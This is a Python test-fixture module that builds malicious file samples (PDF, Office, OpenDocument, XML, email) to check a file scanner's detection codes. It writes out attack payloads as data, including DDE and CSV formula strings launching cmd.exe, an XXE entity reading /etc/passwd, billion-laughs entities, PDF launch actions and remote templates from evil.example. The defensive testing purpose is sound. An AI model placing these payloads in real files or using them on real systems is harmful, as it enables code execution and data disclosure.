"""Documents that act by themselves, fetch something, or hold what they should not."""

import gzip
from email.message import EmailMessage

from tests.support.files.compound import compound, deep, outlook
from tests.support.files.packing import (
    XML,
    opendocument,
    relations,
    sheet,
    slides,
    types,
    word,
    zipped,
)
from tests.support.files.portable import pdf
from tests.support.files.samples import Sample

_MACROS = compound({"VBA": {"dir": b"a", "Module1": b"Sub AutoOpen()"}, "PROJECT": b"ID="})
_OBJECT = compound({"\x01Ole10Native": b"a" * 99})
_ENABLED = "application/vnd.ms-word.document.macroEnabled.main+xml"
_SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_DDE = '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
_LINK = f'{XML}<externalLink xmlns="{_SHEETS}">{_DDE}</externalLink>'
_LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><r>&b;</r>'


def _field(*codes: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return word(body=f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>')


def _fetching(kind: str, target: str) -> bytes:
    return word(more={"word/_rels/settings.xml.rels": relations((kind, target, "External"))})


def _mail(name: str, content: bytes) -> bytes:
    message = EmailMessage()
    message["From"], message["To"] = "a@example.org", "b@example.org"
    message.set_content("see the file")
    message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


_SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>"
PDF = (
    Sample("a script", "a.pdf", pdf(_SCRIPT), "SCRIPT"),
    Sample("a script that runs on opening", "a.pdf", pdf(f"<< /OpenAction {_SCRIPT} >>"), "SCRIPT"),
    Sample("a script under a masked name", "a.pdf", pdf("<< /S /J#61vaScript /JS (a) >>"), "SCRIPT"),
    Sample("a script in an object stream", "a.pdf", pdf(packed=f"3 0 {_SCRIPT}"), "SCRIPT"),
    Sample(
        "objects packed in another way",
        "a.pdf",
        pdf(packed="3 0 << >>", filters="[/ASCIIHexDecode /FlateDecode]"),
        "UNREADABLE",
    ),
    Sample(
        "objects packed twice", "a.pdf", pdf(packed="3 0 << >>", filters="[/FlateDecode /FlateDecode]"), "UNREADABLE"
    ),
    Sample("objects that grow", "a.pdf", pdf(packed="3 0 " + "a" * 9_000_000), "DECOMPRESSION_BOMB"),
    Sample("a program to be started", "a.pdf", pdf("<< /S /Launch /F (cmd.exe) >>"), "LAUNCH"),
    Sample("an embedded file", "a.pdf", pdf("<< /Type /Filespec /EF << /F 4 0 R >> >>"), "EMBEDDED_OBJECT"),
    Sample("an attached file", "a.pdf", pdf("<< /Subtype /FileAttachment >>"), "EMBEDDED_OBJECT"),
    Sample("a film", "a.pdf", pdf("<< /Subtype /RichMedia >>"), "EMBEDDED_OBJECT"),
    Sample("a form that runs programs", "a.pdf", pdf("<< /AcroForm << /XFA 4 0 R >> >>"), "SCRIPT"),
    Sample("an encrypted document", "a.pdf", pdf(trailer="/Encrypt 5 0 R"), "ENCRYPTED"),
    Sample("a document that is an archive", "a.pdf", pdf() + zipped({"a.txt": "a"}), "POLYGLOT"),
    Sample("a document that is a page", "a.pdf", pdf("(<script>alert(1)</script>)"), "POLYGLOT"),
    Sample("a document after something else", "a.pdf", b"\n" * 9 + pdf(), "TYPE_MISMATCH"),
    Sample("a document that is cut off", "a.pdf", pdf()[:-9], "TRUNCATED"),
)
OFFICE = (
    Sample("macros", "a.docx", word(more={"word/vbaProject.bin": _MACROS}), "MACRO"),
    Sample("macros under another name", "a.docx", word(more={"word/media/image1.png": _MACROS}), "MACRO"),
    Sample(
        "a document with macros by its type",
        "a.docx",
        word(more={"[Content_Types].xml": types(_ENABLED, "/word/document.xml")}),
        "MACRO",
    ),
    Sample("a document with macros by its ending", "a.docm", word(more={"word/vbaProject.bin": _MACROS}), "MACRO"),
    Sample("a sheet of old macros", "a.xlsx", sheet({"xl/macrosheets/sheet1.xml": f"{XML}<a/>"}), "MACRO"),
    Sample(
        "old macros by their relation",
        "a.xlsx",
        sheet({"xl/_rels/workbook.xml.rels": relations(("xlMacrosheet", "a.xml", ""))}),
        "MACRO",
    ),
    Sample(
        "a template from elsewhere",
        "a.docx",
        _fetching("attachedTemplate", "https://evil.example/a.dotm"),
        "EXTERNAL_REFERENCE",
    ),
    Sample(
        "a template from a share",
        "a.docx",
        _fetching("attachedTemplate", r"\\evil.example\a.dotm"),
        "EXTERNAL_REFERENCE",
    ),
    Sample(
        "a template from a share by address",
        "a.docx",
        _fetching("attachedTemplate", "file://evil.example/a.dotm"),
        "EXTERNAL_REFERENCE",
    ),
    Sample(
        "a picture from elsewhere", "a.docx", _fetching("image", "https://evil.example/a.png"), "EXTERNAL_REFERENCE"
    ),
    Sample(
        "an object from elsewhere",
        "a.docx",
        _fetching("oleObject", "mhtml:https://evil.example/a!x"),
        "EXTERNAL_REFERENCE",
    ),
    Sample(
        "a field that fetches", "a.docx", _field('INCLUDEPICTURE "https://evil.example/a.png"'), "EXTERNAL_REFERENCE"
    ),
    Sample("a field that starts a program", "a.docx", _field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"'), "DDE"),
    Sample("such a field in pieces", "a.docx", _field("DD", "EAU", "TO cmd "), "DDE"),
    Sample("such a field by numbers", "a.docx", _field("QUOTE 68 68 69 65 85 84 79"), "DDE"),
    Sample("such a field as a whole", "a.docx", word(body='<w:p><w:fldSimple w:instr="DDE cmd"/></w:p>'), "DDE"),
    Sample("a link that starts a program", "a.xlsx", sheet({"xl/externalLinks/externalLink1.xml": _LINK}), "DDE"),
    Sample(
        "a formula that starts a program",
        "a.xlsx",
        sheet({"xl/worksheets/sheet1.xml": "<a><f>cmd|'/c calc'!A0</f></a>"}),
        "DDE",
    ),
    Sample("a table that starts a program", "a.csv", b"name,town\n=cmd|'/C calc'!A0,Graz\n", "DDE"),
    Sample("an embedded object", "a.docx", word(more={"word/embeddings/oleObject1.bin": _OBJECT}), "EMBEDDED_OBJECT"),
    Sample("an embedded program", "a.pptx", slides({"ppt/media/film.mp4": b"MZ" + bytes(90)}), "EMBEDDED_OBJECT"),
    Sample("an embedded control", "a.docx", word(more={"word/activeX/activeX1.xml": f"{XML}<a/>"}), "EMBEDDED_OBJECT"),
    Sample(
        "an embedded page",
        "a.docx",
        word(more={"word/_rels/document.xml.rels": relations(("aFChunk", "a.html", ""))}),
        "EMBEDDED_OBJECT",
    ),
    Sample(
        "an embedded sheet with macros",
        "a.pptx",
        slides({"ppt/embeddings/a.xlsx": sheet({"xl/vbaProject.bin": b"a"})}),
        "MACRO",
    ),
    Sample("entities in a part", "a.docx", word(more={"word/document.xml": _LAUGHS}), "XML_ENTITIES"),
    Sample("entities in a sheet", "a.xlsx", sheet({"xl/sharedStrings.xml": _LAUGHS}), "XML_ENTITIES"),
    Sample(
        "wide entities in a sheet",
        "a.xlsx",
        sheet({"xl/sharedStrings.xml": _LAUGHS.decode().encode("utf-16")}),
        "XML_ENTITIES",
    ),
    Sample(
        "an old document with macros",
        "a.doc",
        compound({"WordDocument": b"a" * 99, "Macros": {"VBA": {"dir": b"a"}}}),
        "MACRO",
    ),
    Sample("an old document", "a.doc", compound({"WordDocument": b"a" * 99}), "TYPE_NOT_ALLOWED"),
    Sample("an old document under a new ending", "a.docx", compound({"WordDocument": b"a" * 99}), "TYPE_NOT_ALLOWED"),
    Sample("an encrypted document", "a.docx", compound({"EncryptedPackage": b"a" * 99}), "ENCRYPTED"),
    Sample(
        "macros of LibreOffice",
        "a.odt",
        opendocument("text", more={"Basic/Standard/Module1.xml": f"{XML}<a/>"}),
        "MACRO",
    ),
    Sample("macros of LibreOffice on events", "a.odt", opendocument("text", "<script:event-listener/>"), "MACRO"),
    Sample(
        "a picture from elsewhere",
        "a.odt",
        opendocument("text", '<draw:image xlink:href="https://evil.example/a"/>'),
        "EXTERNAL_REFERENCE",
    ),
    Sample(
        "a section from elsewhere",
        "a.odt",
        opendocument("text", '<text:section-source xlink:href="../../a.odt"/>'),
        "EXTERNAL_REFERENCE",
    ),
    Sample("a command of LibreOffice", "a.ods", opendocument("spreadsheet", "<office:dde-source/>"), "DDE"),
    Sample("a plug-in", "a.odp", opendocument("presentation", "<draw:plugin/>"), "EMBEDDED_OBJECT"),
    Sample(
        "an encrypted text",
        "a.odt",
        opendocument("text", more={"META-INF/manifest.xml": '<m xmlns="urn:m"><encryption-data/></m>'}),
        "ENCRYPTED",
    ),
    Sample("a template", "a.odt", opendocument("text-template"), "TYPE_NOT_ALLOWED"),
)
MARKUP = (
    Sample("entities that grow", "a.xml", _LAUGHS, "XML_ENTITIES"),
    Sample(
        "an entity that fetches",
        "a.xml",
        b'<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>',
        "XML_ENTITIES",
    ),
    Sample(
        "a definition from elsewhere", "a.xml", b'<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><a/>', "XML_ENTITIES"
    ),
    Sample(
        "a transformation",
        "a.xml",
        b'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#a"?><a/>',
        "ACTIVE_MARKUP",
    ),
    Sample(
        "a transformation itself",
        "a.xml",
        b'<t:stylesheet xmlns:t="http://www.w3.org/1999/XSL/Transform"/>',
        "ACTIVE_MARKUP",
    ),
    Sample(
        "a script deep in it",
        "a.xml",
        b'<a><b><c:script xmlns:c="http://www.w3.org/1999/xhtml">alert(1)</c:script></b></a>',
        "ACTIVE_MARKUP",
    ),
    Sample("elements without end", "a.xml", b"<x>" * 1000 + b"</x>" * 1000, "MALFORMED"),
    Sample("no XML", "a.xml", b"<x><y></x>", "MALFORMED"),
    Sample("XML as a text", "a.txt", b'<?xml version="1.0"?><a/>', "TYPE_MISMATCH"),
    Sample("no JSON", "a.json", b"hello there", "MALFORMED"),
)
MAILS = (
    Sample("a program in a mail", "a.eml", _mail("a.exe", b"MZ" + bytes(99)), "TYPE_NOT_ALLOWED"),
    Sample("a program as a document in a mail", "a.eml", _mail("a.pdf", b"MZ" + bytes(99)), "TYPE_NOT_ALLOWED"),
    Sample("a page in a mail", "a.eml", _mail("a.html", b"<html></html>"), "ACTIVE_MARKUP"),
    Sample("macros in a mail", "a.eml", _mail("a.docx", word(more={"word/vbaProject.bin": _MACROS})), "MACRO"),
    Sample("a path in a mail", "a.eml", _mail("../../a.txt", b"a"), "UNSAFE_NAME"),
    Sample("a bomb in a mail", "a.eml", _mail("a.log.gz", gzip.compress(bytes(2**24))), "DECOMPRESSION_BOMB"),
    Sample("a text as a mail", "a.eml", b"hello there", "TYPE_MISMATCH"),
    Sample("a program in a mail of Outlook", "a.msg", outlook("a", {"a.exe": b"MZ" + bytes(99)}), "TYPE_NOT_ALLOWED"),
    Sample("a script in a mail of Outlook", "a.msg", outlook("a", {"a.pdf": pdf(_SCRIPT)}), "SCRIPT"),
    Sample("a large program in such a mail", "a.msg", outlook("a", {"a.txt": b"MZ" + bytes(9000)}), "TYPE_NOT_ALLOWED"),
    Sample("folders in folders without end", "a.msg", deep(1500), "TYPE_NOT_ALLOWED"),
    Sample("a broken mail of Outlook", "a.msg", outlook("a", {})[:700], "TYPE_NOT_ALLOWED"),
)
SAMPLES = (*PDF, *OFFICE, *MARKUP, *MAILS)
